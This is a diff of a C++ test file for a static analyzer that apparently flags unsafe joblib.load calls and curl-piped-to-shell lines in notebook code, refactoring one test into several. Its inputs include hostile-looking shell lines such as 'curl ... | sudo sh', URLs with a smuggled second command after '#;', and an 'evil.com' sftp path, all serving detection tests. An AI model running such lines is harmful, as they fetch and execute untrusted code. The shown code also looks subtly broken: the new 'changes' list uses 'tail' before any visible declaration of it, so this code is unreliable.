@@ -147,24 +147,137 @@ CUPEL_TEST(valuesTellThatOthersStandThere)
     CHECK(covers({}, some) && covers({}, others));
 }
 
+namespace {
+
+Finding loaded(std::string_view source, std::string_view rule = "CUP-CODE-JOBLIB-LOAD")
+{
+    const auto analysis = test::analyzed(code(source));
+    const auto found = std::find_if(analysis.findings.begin(), analysis.findings.end(),
+        [rule](const Finding& finding) { return finding.rule == rule; });
+    return found == analysis.findings.end() ? Finding() : *found;
+}
+
+const std::string head = "import joblib, os\n";
+
+// Two programs that differ in what a call hangs on, through names of names, loops, branches, functions, objects.
+using Pairs = std::vector<std::pair<std::string, std::string>>;
+const Pairs changes{{"folder = 'models'\nname = 'ours.pkl'\n" + tail, "folder = 'models'\nname = 'evil.pkl'\n" + tail},
+    {"folder = 'models'\nname = 'ours.pkl'\n" + tail, "folder = '/tmp'\nname = 'ours.pkl'\n" + tail},
+    {"for name in ['a.pkl']:\n    joblib.load(name)\n", "for name in ['b.pkl']:\n    joblib.load(name)\n"},
+    {"with open('a.pkl', 'rb') as f:\n    joblib.load(f)\n", "with open('b.pkl', 'rb') as f:\n    joblib.load(f)\n"},
+    {"if x:\n    f = 'a'\nelse:\n    f = 'b'\njoblib.load(f)\n",
+        "if x:\n    f = 'c'\nelse:\n    f = 'b'\njoblib.load(f)\n"},
+    {"def where():\n    return 'a'\njoblib.load(where())\n", "def where():\n    return 'b'\njoblib.load(where())\n"},
+    {"cfg.path = 'a'\njoblib.load(cfg.path)\n", "cfg.path = 'b'\njoblib.load(cfg.path)\n"},
+    {"if (f := 'a'):\n    joblib.load(f)\n", "if (f := 'b'):\n    joblib.load(f)\n"},
+    {"joblib.load('m',\n    mmap_mode=None)\n", "joblib.load('m',\n    mmap_mode='r')\n"},
+    {"f = 'evil'\nf = 'ours'\njoblib.load(f)\n", "f = 'ours'\nf = 'evil'\njoblib.load(f)\n"},
+    {"from ours import f\njoblib.load(f)\n", "from evil import f\njoblib.load(f)\n"},
+    {"import ours as f\njoblib.load(f.x)\n", "import evil as f\njoblib.load(f.x)\n"},
+    {"def go(f):\n    joblib.load(f)\ngo('ours')\n", "def go(f):\n    joblib.load(f)\ngo('evil')\n"},
+    {"def go():\n    joblib.load(f)\nf = 'ours'\ngo()\n", "def go():\n    joblib.load(f)\nf = 'evil'\ngo()\n"},
+    {"def f():\n    return u\nu = 'a'\njoblib.load(f())\n", "def f():\n    return u\nu = 'b'\njoblib.load(f())\n"},
+    {"d = []\nd.append('ours')\njoblib.load(d[0])\n", "d = []\nd.append('evil')\njoblib.load(d[0])\n"},
+    {"model = 'a'\nf = open('model')\njoblib.load(f)\n", "model = 'a'\nf = open(model)\njoblib.load(f)\n"},
+    {"f = 'sftp:bob@ours.org'\njoblib.load(f)\n", "f = 'sftp:eve@evil.com'\njoblib.load(f)\n"},
+    {"if ours:\n    joblib.load(f)\n", "if True:\n    joblib.load(f)\n"},
+    {"if a:\n    pass\nelif ours:\n    joblib.load(f)\n", "if a:\n    pass\nelif b:\n    joblib.load(f)\n"},
+    {"while ours:\n    joblib.load(f)\n", "while True:\n    joblib.load(f)\n"},
+    {"class A(Ours):\n    def go(self):\n        joblib.load(self.f)\n",
+        "class A(Evil):\n    def go(self):\n        joblib.load(self.f)\n"},
+    {"class A(Ours):\n    pass\njoblib.load(A().f)\n", "class A(Evil):\n    pass\njoblib.load(A().f)\n"},
+    {"def go(f='ours'):\n    joblib.load(f)\n", "def go(f='evil'):\n    joblib.load(f)\n"},
+    {"match ours:\n    case [f]:\n        joblib.load(f)\n", "match evil:\n    case [f]:\n        joblib.load(f)\n"},
+    {"match x:\n    case [f, 'a']:\n        pass\njoblib.load(f)\n",
+        "match x:\n    case ['a', f]:\n        pass\njoblib.load(f)\n"},
+    {"f = !cat ours.txt\njoblib.load(f[0])\n", "f = !cat evil.txt\njoblib.load(f[0])\n"},
+    {"u = 'a'\nf = !cat {u}\njoblib.load(f[0])\n", "u = 'b'\nf = !cat {u}\njoblib.load(f[0])\n"},
+    {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n", "%env F=evil.pkl\njoblib.load(os.environ['F'])\n"},
+    {"f = 'ours'\n%time m = joblib.load(f)\n", "f = 'evil'\n%time m = joblib.load(f)\n"},
+    {"from ours import *\njoblib.load(f)\n", "from evil import *\njoblib.load(f)\n"},
+    {"def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('ours')\n",
+        "def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('evil')\n"},
+    {"class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
+     "joblib.load(self.f)\nA('ours').go()\n",
+        "class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
+        "joblib.load(self.f)\nA('evil').go()\n"},
+    {"class A:\n    f = 'ours'\njoblib.load(A.f)\n", "class A:\n    f = 'evil'\njoblib.load(A.f)\n"},
+    {"def set():\n    global f\n    f = 'ours'\nset()\njoblib.load(f)\n",
+        "def set():\n    global f\n    f = 'evil'\nset()\njoblib.load(f)\n"},
+    {"d = {}\ndef fill():\n    d['f'] = 'ours'\nfill()\njoblib.load(d['f'])\n",
+        "d = {}\ndef fill():\n    d['f'] = 'evil'\nfill()\njoblib.load(d['f'])\n"},
+    {"def fill():\n    d.f.append('ours')\nfill()\njoblib.load(d.f[0])\n",
+        "def fill():\n    d.f.append('evil')\nfill()\njoblib.load(d.f[0])\n"},
+    {"def outer():\n    f = 'ours'\n    def inner():\n        joblib.load(f)\n    inner()\n",
+        "def outer():\n    f = 'evil'\n    def inner():\n        joblib.load(f)\n    inner()\n"},
+    {"for f in (x + '.pkl' for x in ['ours']):\n    joblib.load(f)\n",
+        "for f in (x + '.pkl' for x in ['evil']):\n    joblib.load(f)\n"},
+    {"f = 'ours'\ndef go(f=f):\n    joblib.load(f)\ngo()\n", "f = 'evil'\ndef go(f=f):\n    joblib.load(f)\ngo()\n"},
+    {"f = ['ours']\n[joblib.load(f) for f in f]\n", "f = ['evil']\n[joblib.load(f) for f in f]\n"},
+    {"[(f := x + 'ours') for x in y]\njoblib.load(f)\n", "[(f := x + 'evil') for x in y]\njoblib.load(f)\n"},
+    {"class A:\n    @staticmethod\n    def go(f):\n        joblib.load(f)\nA.go('ours')\n",
+        "class A:\n    @staticmethod\n    def go(f):\n        joblib.load(f)\nA.go('evil')\n"},
+    {"class A:\n    def __init__(self, f):\n        joblib.load(f)\nclass B(A):\n    pass\nB('ours')\n",
+        "class A:\n    def __init__(self, f):\n        joblib.load(f)\nclass B(A):\n    pass\nB('evil')\n"},
+    {"@dataclass\nclass A:\n    f: str = ''\n    def go(self):\n        joblib.load(self.f)\nA('ours').go()\n",
+        "@dataclass\nclass A:\n    f: str = ''\n    def go(self):\n        "
+        "joblib.load(self.f)\nA('evil').go()\n"},
+    {"os.environ['F'] = 'ours'\njoblib.load(os.getenv('F'))\n",
+        "os.environ['F'] = 'evil'\njoblib.load(os.getenv('F'))\n"},
+    {"df.loc[0, 'f'] = 'ours'\njoblib.load(df['f'][0])\n", "df.loc[0, 'f'] = 'evil'\njoblib.load(df['f'][0])\n"},
+    {"def out():\n    f = 1\n    def inner():\n        global f\n        joblib.load(f)\n    inner()\nf = "
+     "'ours'\nout()\n",
+        "def out():\n    f = 1\n    def inner():\n        global f\n        joblib.load(f)\n    inner()\nf = "
+        "'evil'\nout()\n"},
+    {"def go(u):\n    m = !curl {u}\n    joblib.load(m)\ngo('ours')\n",
+        "def go(u):\n    m = !curl {u}\n    joblib.load(m)\ngo('evil')\n"},
+    {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n", "%env F=ours.pkl#/evil\njoblib.load(os.environ['F'])\n"},
+    {"f = !cat ours.txt\njoblib.load(f)\n", "f = !cat ours.txt#;cat evil.txt\njoblib.load(f)\n"},
+    {"if ours:\n    joblib.load(f)\nelse:\n    pass\n", "if ours:\n    pass\nelse:\n    joblib.load(f)\n"},
+    {"def p():\n    p = 'a'\n    if x:\n        p = 'b'\n    return p\njoblib.load(p())\n",
+        "def p():\n    p = 'a'\n    if x:\n        pass\n    p = 'b'\n    return p\njoblib.load(p())\n"},
+    {"if ours:\n    f = 'a'\njoblib.load(f)\n", "if evil:\n    f = 'a'\njoblib.load(f)\n"},
+    {"@click.option('--f', default='ours')\ndef go(f):\n    joblib.load(f)\n",
+        "@click.option('--f', default='evil')\ndef go(f):\n    joblib.load(f)\n"},
+    {"def go(f):\n    joblib.load(f)\nlist(map(go, ['ours']))\n",
+        "def go(f):\n    joblib.load(f)\nlist(map(go, ['evil']))\n"},
+    {"def go(f):\n    joblib.load(f)\npartial(go, 'ours')()\n",
+        "def go(f):\n    joblib.load(f)\npartial(go, 'evil')()\n"},
+    {"o.path = 'ours'\njoblib.load(o)\n", "o.path = 'evil'\njoblib.load(o)\n"},
+    {"p.add_argument(default='ours')\nf = p.parse_args()\njoblib.load(f)\n",
+        "p.add_argument(default='evil')\nf = p.parse_args()\njoblib.load(f)\n"},
+    {"def fill(d, f):\n    d.append(f)\nd = []\nfill(d, 'ours')\njoblib.load(d[0])\n",
+        "def fill(d, f):\n    d.append(f)\nd = []\nfill(d, 'evil')\njoblib.load(d[0])\n"},
+    {"setattr(c, 'f', 'ours')\njoblib.load(c.f)\n", "setattr(c, 'f', 'evil')\njoblib.load(c.f)\n"},
+    {"d = []\nx = 1\nd.append('ours')\nd = d + [2]\njoblib.load(d[0])\n",
+        "d = []\nx = 1\nd.append('evil')\nd = d + [2]\njoblib.load(d[0])\n"}};
+
+} // namespace
+
 // A call stands on what it is given: whoever decided about it decided about that, too.
 CUPEL_TEST(valuesTellWhatACallIsGiven)
 {
-    const auto loads = [](std::string_view source, std::string_view rule = "CUP-CODE-JOBLIB-LOAD") {
-        const auto analysis = test::analyzed(code(source));
-        const auto found = std::find_if(analysis.findings.begin(), analysis.findings.end(),
-            [rule](const Finding& finding) { return finding.rule == rule; });
-        return found == analysis.findings.end() ? Finding() : *found;
-    };
-    const std::string head = "import joblib, os\n";
+    for (const auto& [source, changed] : changes) {
+        const auto before = loaded(head + source);
+        const auto after = loaded(head + changed);
+        CHECK_EQ(before.values.size(), 16U);
+        CHECK_EQ(after.fingerprint, before.fingerprint);
+        if (after.values == before.values) {
+            test::report(false, __FILE__, __LINE__, "nothing is told of\n" + changed);
+        }
+    }
+}
+
+CUPEL_TEST(valuesStayWhereNothingOfACallChanged)
+{
     const std::string tail = "path = os.path.join(folder, name)\nmodel = joblib.load(path)\n";
-    const auto own = loads(head + "folder = 'models'\nname = 'ours.pkl'\n" + tail);
+    const auto own = loaded(head + "folder = 'models'\nname = 'ours.pkl'\n" + tail);
     CHECK_EQ(own.values.size(), 16U);
     // Nothing of it: another name, what comes later, how it is written.
     for (const auto& same : {head + "folder = 'models'\nseed = 7\nname = 'ours.pkl'\n" + tail,
              head + "folder = 'models'\nname = 'ours.pkl'\n" + tail + "name = 'other'\nprint(model)\n",
              head + "folder='models'\n\nname  =  \"ours.pkl\" # ours\n" + tail}) {
-        CHECK_EQ(loads(same).values, own.values);
+        CHECK_EQ(loaded(same).values, own.values);
     }
     // Nor what happens to have the same name somewhere else.
     for (const std::string other : {"def log(path):\n    folder = '/tmp'\n    print(folder, path)\nlog('x')\n",
@@ -172,132 +285,35 @@ CUPEL_TEST(valuesTellWhatACallIsGiven)
              "class Other:\n    folder = '/tmp'\n    def name(self):\n        path = 'x'\n        return path\n",
              "cfg.names = '/tmp'\n", "cfg.path = '/tmp'\n", "df.head()\nplt.title('x')\n",
              "def other():\n    for folder in []:\n        name = folder\n"}) {
-        CHECK_EQ(loads(head + "folder = 'models'\nname = 'ours.pkl'\n" + other + tail).values, own.values);
-        CHECK_EQ(loads(head + other + "folder = 'models'\nname = 'ours.pkl'\n" + tail + other).values, own.values);
+        CHECK_EQ(loaded(head + "folder = 'models'\nname = 'ours.pkl'\n" + other + tail).values, own.values);
+        CHECK_EQ(loaded(head + other + "folder = 'models'\nname = 'ours.pkl'\n" + tail + other).values, own.values);
     }
-    // All that it hangs on, through names of names, loops, branches, functions and the end of the statement.
-    for (const auto& [source, changed] : std::vector<std::pair<std::string, std::string>>{
-             {"folder = 'models'\nname = 'ours.pkl'\n" + tail, "folder = 'models'\nname = 'evil.pkl'\n" + tail},
-             {"folder = 'models'\nname = 'ours.pkl'\n" + tail, "folder = '/tmp'\nname = 'ours.pkl'\n" + tail},
-             {"for name in ['a.pkl']:\n    joblib.load(name)\n", "for name in ['b.pkl']:\n    joblib.load(name)\n"},
-             {"with open('a.pkl', 'rb') as f:\n    joblib.load(f)\n",
-                 "with open('b.pkl', 'rb') as f:\n    joblib.load(f)\n"},
-             {"if x:\n    f = 'a'\nelse:\n    f = 'b'\njoblib.load(f)\n",
-                 "if x:\n    f = 'c'\nelse:\n    f = 'b'\njoblib.load(f)\n"},
-             {"def where():\n    return 'a'\njoblib.load(where())\n",
-                 "def where():\n    return 'b'\njoblib.load(where())\n"},
-             {"cfg.path = 'a'\njoblib.load(cfg.path)\n", "cfg.path = 'b'\njoblib.load(cfg.path)\n"},
-             {"if (f := 'a'):\n    joblib.load(f)\n", "if (f := 'b'):\n    joblib.load(f)\n"},
-             {"joblib.load('m',\n    mmap_mode=None)\n", "joblib.load('m',\n    mmap_mode='r')\n"},
-             {"f = 'evil'\nf = 'ours'\njoblib.load(f)\n", "f = 'ours'\nf = 'evil'\njoblib.load(f)\n"},
-             {"from ours import f\njoblib.load(f)\n", "from evil import f\njoblib.load(f)\n"},
-             {"import ours as f\njoblib.load(f.x)\n", "import evil as f\njoblib.load(f.x)\n"},
-             {"def go(f):\n    joblib.load(f)\ngo('ours')\n", "def go(f):\n    joblib.load(f)\ngo('evil')\n"},
-             {"def go():\n    joblib.load(f)\nf = 'ours'\ngo()\n", "def go():\n    joblib.load(f)\nf = 'evil'\ngo()\n"},
-             {"def f():\n    return u\nu = 'a'\njoblib.load(f())\n",
-                 "def f():\n    return u\nu = 'b'\njoblib.load(f())\n"},
-             {"d = []\nd.append('ours')\njoblib.load(d[0])\n", "d = []\nd.append('evil')\njoblib.load(d[0])\n"},
-             {"model = 'a'\nf = open('model')\njoblib.load(f)\n", "model = 'a'\nf = open(model)\njoblib.load(f)\n"},
-             {"f = 'sftp:bob@ours.org'\njoblib.load(f)\n", "f = 'sftp:eve@evil.com'\njoblib.load(f)\n"},
-             {"if ours:\n    joblib.load(f)\n", "if True:\n    joblib.load(f)\n"},
-             {"if a:\n    pass\nelif ours:\n    joblib.load(f)\n", "if a:\n    pass\nelif b:\n    joblib.load(f)\n"},
-             {"while ours:\n    joblib.load(f)\n", "while True:\n    joblib.load(f)\n"},
-             {"class A(Ours):\n    def go(self):\n        joblib.load(self.f)\n",
-                 "class A(Evil):\n    def go(self):\n        joblib.load(self.f)\n"},
-             {"class A(Ours):\n    pass\njoblib.load(A().f)\n", "class A(Evil):\n    pass\njoblib.load(A().f)\n"},
-             {"def go(f='ours'):\n    joblib.load(f)\n", "def go(f='evil'):\n    joblib.load(f)\n"},
-             {"match ours:\n    case [f]:\n        joblib.load(f)\n",
-                 "match evil:\n    case [f]:\n        joblib.load(f)\n"},
-             {"match x:\n    case [f, 'a']:\n        pass\njoblib.load(f)\n",
-                 "match x:\n    case ['a', f]:\n        pass\njoblib.load(f)\n"},
-             {"f = !cat ours.txt\njoblib.load(f[0])\n", "f = !cat evil.txt\njoblib.load(f[0])\n"},
-             {"u = 'a'\nf = !cat {u}\njoblib.load(f[0])\n", "u = 'b'\nf = !cat {u}\njoblib.load(f[0])\n"},
-             {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n", "%env F=evil.pkl\njoblib.load(os.environ['F'])\n"},
-             {"f = 'ours'\n%time m = joblib.load(f)\n", "f = 'evil'\n%time m = joblib.load(f)\n"},
-             {"from ours import *\njoblib.load(f)\n", "from evil import *\njoblib.load(f)\n"},
-             {"def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('ours')\n",
-                 "def go(f):\n    joblib.load(f)\ndef main(u):\n    go(u)\nmain('evil')\n"},
-             {"class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
-              "joblib.load(self.f)\nA('ours').go()\n",
-                 "class A:\n    def __init__(self, f):\n        self.f = f\n    def go(self):\n        "
-                 "joblib.load(self.f)\nA('evil').go()\n"},
-             {"class A:\n    f = 'ours'\njoblib.load(A.f)\n", "class A:\n    f = 'evil'\njoblib.load(A.f)\n"},
-             {"def set():\n    global f\n    f = 'ours'\nset()\njoblib.load(f)\n",
-                 "def set():\n    global f\n    f = 'evil'\nset()\njoblib.load(f)\n"},
-             {"d = {}\ndef fill():\n    d['f'] = 'ours'\nfill()\njoblib.load(d['f'])\n",
-                 "d = {}\ndef fill():\n    d['f'] = 'evil'\nfill()\njoblib.load(d['f'])\n"},
-             {"def fill():\n    d.f.append('ours')\nfill()\njoblib.load(d.f[0])\n",
-                 "def fill():\n    d.f.append('evil')\nfill()\njoblib.load(d.f[0])\n"},
-             {"def outer():\n    f = 'ours'\n    def inner():\n        joblib.load(f)\n    inner()\n",
-                 "def outer():\n    f = 'evil'\n    def inner():\n        joblib.load(f)\n    inner()\n"},
-             {"for f in (x + '.pkl' for x in ['ours']):\n    joblib.load(f)\n",
-                 "for f in (x + '.pkl' for x in ['evil']):\n    joblib.load(f)\n"},
-             {"f = 'ours'\ndef go(f=f):\n    joblib.load(f)\ngo()\n",
-                 "f = 'evil'\ndef go(f=f):\n    joblib.load(f)\ngo()\n"},
-             {"f = ['ours']\n[joblib.load(f) for f in f]\n", "f = ['evil']\n[joblib.load(f) for f in f]\n"},
-             {"[(f := x + 'ours') for x in y]\njoblib.load(f)\n", "[(f := x + 'evil') for x in y]\njoblib.load(f)\n"},
-             {"class A:\n    @staticmethod\n    def go(f):\n        joblib.load(f)\nA.go('ours')\n",
-                 "class A:\n    @staticmethod\n    def go(f):\n        joblib.load(f)\nA.go('evil')\n"},
-             {"class A:\n    def __init__(self, f):\n        joblib.load(f)\nclass B(A):\n    pass\nB('ours')\n",
-                 "class A:\n    def __init__(self, f):\n        joblib.load(f)\nclass B(A):\n    pass\nB('evil')\n"},
-             {"@dataclass\nclass A:\n    f: str = ''\n    def go(self):\n        joblib.load(self.f)\nA('ours').go()\n",
-                 "@dataclass\nclass A:\n    f: str = ''\n    def go(self):\n        "
-                 "joblib.load(self.f)\nA('evil').go()\n"},
-             {"os.environ['F'] = 'ours'\njoblib.load(os.getenv('F'))\n",
-                 "os.environ['F'] = 'evil'\njoblib.load(os.getenv('F'))\n"},
-             {"df.loc[0, 'f'] = 'ours'\njoblib.load(df['f'][0])\n",
-                 "df.loc[0, 'f'] = 'evil'\njoblib.load(df['f'][0])\n"},
-             {"def out():\n    f = 1\n    def inner():\n        global f\n        joblib.load(f)\n    inner()\nf = "
-              "'ours'\nout()\n",
-                 "def out():\n    f = 1\n    def inner():\n        global f\n        joblib.load(f)\n    inner()\nf = "
-                 "'evil'\nout()\n"},
-             {"def go(u):\n    m = !curl {u}\n    joblib.load(m)\ngo('ours')\n",
-                 "def go(u):\n    m = !curl {u}\n    joblib.load(m)\ngo('evil')\n"},
-             {"%env F=ours.pkl\njoblib.load(os.environ['F'])\n",
-                 "%env F=ours.pkl#/evil\njoblib.load(os.environ['F'])\n"},
-             {"f = !cat ours.txt\njoblib.load(f)\n", "f = !cat ours.txt#;cat evil.txt\njoblib.load(f)\n"},
-             {"if ours:\n    joblib.load(f)\nelse:\n    pass\n", "if ours:\n    pass\nelse:\n    joblib.load(f)\n"},
-             {"def p():\n    p = 'a'\n    if x:\n        p = 'b'\n    return p\njoblib.load(p())\n",
-                 "def p():\n    p = 'a'\n    if x:\n        pass\n    p = 'b'\n    return p\njoblib.load(p())\n"},
-             {"if ours:\n    f = 'a'\njoblib.load(f)\n", "if evil:\n    f = 'a'\njoblib.load(f)\n"},
-             {"@click.option('--f', default='ours')\ndef go(f):\n    joblib.load(f)\n",
-                 "@click.option('--f', default='evil')\ndef go(f):\n    joblib.load(f)\n"},
-             {"def go(f):\n    joblib.load(f)\nlist(map(go, ['ours']))\n",
-                 "def go(f):\n    joblib.load(f)\nlist(map(go, ['evil']))\n"},
-             {"def go(f):\n    joblib.load(f)\npartial(go, 'ours')()\n",
-                 "def go(f):\n    joblib.load(f)\npartial(go, 'evil')()\n"},
-             {"o.path = 'ours'\njoblib.load(o)\n", "o.path = 'evil'\njoblib.load(o)\n"},
-             {"p.add_argument(default='ours')\nf = p.parse_args()\njoblib.load(f)\n",
-                 "p.add_argument(default='evil')\nf = p.parse_args()\njoblib.load(f)\n"},
-             {"def fill(d, f):\n    d.append(f)\nd = []\nfill(d, 'ours')\njoblib.load(d[0])\n",
-                 "def fill(d, f):\n    d.append(f)\nd = []\nfill(d, 'evil')\njoblib.load(d[0])\n"},
-             {"setattr(c, 'f', 'ours')\njoblib.load(c.f)\n", "setattr(c, 'f', 'evil')\njoblib.load(c.f)\n"},
-             {"d = []\nx = 1\nd.append('ours')\nd = d + [2]\njoblib.load(d[0])\n",
-                 "d = []\nx = 1\nd.append('evil')\nd = d + [2]\njoblib.load(d[0])\n"}}) {
-        const auto before = loads(head + source);
-        const auto after = loads(head + changed);
-        CHECK_EQ(after.fingerprint, before.fingerprint);
-        CHECK(after.values != before.values);
-    }
-    // So does what stands in a shell line.
-    const auto shell = [&loads](const std::string& line) { return loads(line, "CUP-CODE-CURL-PIPE-SHELL").values; };
+}
+
+CUPEL_TEST(valuesTellWhatAShellLineIsGiven)
+{
+    const auto shell = [](const std::string& line) { return loaded(line, "CUP-CODE-CURL-PIPE-SHELL").values; };
     CHECK(shell("!curl https://a.org/x#v1 | sh\n") != shell("!curl https://a.org/x#v1 | sudo sh -s evil\n"));
     CHECK(shell("%%bash\nU=https://a.org/i.sh\ncurl $U | sh\n")
         != shell("%%bash\nU=https://a.org/i.sh#;U=https://b.org/x\ncurl $U | sh\n"));
-    const auto piped = [&loads](const std::string& url) {
-        return loads("url = '" + url + "'\n!curl {url} | sh\n", "CUP-CODE-CURL-PIPE-SHELL").values;
+    const auto piped = [](const std::string& url) {
+        return loaded("url = '" + url + "'\n!curl {url} | sh\n", "CUP-CODE-CURL-PIPE-SHELL").values;
     };
     CHECK_EQ(piped("https://a.example.org").size(), 16U);
     CHECK(piped("https://a.example.org") != piped("https://b.example.org"));
+}
+
+CUPEL_TEST(valuesOfBrokenAndOfEndlessCode)
+{
     // Broken code has functions and calls without a name.
-    CHECK_EQ(loads(head + "def (x):\n    joblib.load(x)\n").values.size(), 16U);
-    CHECK_EQ(loads(head + "joblib.load(f)\ndef").values.size(), 16U);
+    CHECK_EQ(loaded(head + "def (x):\n    joblib.load(x)\n").values.size(), 16U);
+    CHECK_EQ(loaded(head + "joblib.load(f)\ndef").values.size(), 16U);
     // What cannot be followed to its end: all of the file counts.
     std::string many = head + "f = ''\n";
     for (int i = 0; i < 1'200; ++i) {
         many += "f += 'a'\n";
     }
-    CHECK(loads(many + "joblib.load(f)\n").values != loads(many + "joblib.load(f)\nx = 1\n").values);
+    CHECK(loaded(many + "joblib.load(f)\n").values != loaded(many + "joblib.load(f)\nx = 1\n").values);
 }
 
 // Outputs: all that acts or hides, wherever it stands, however far into it.
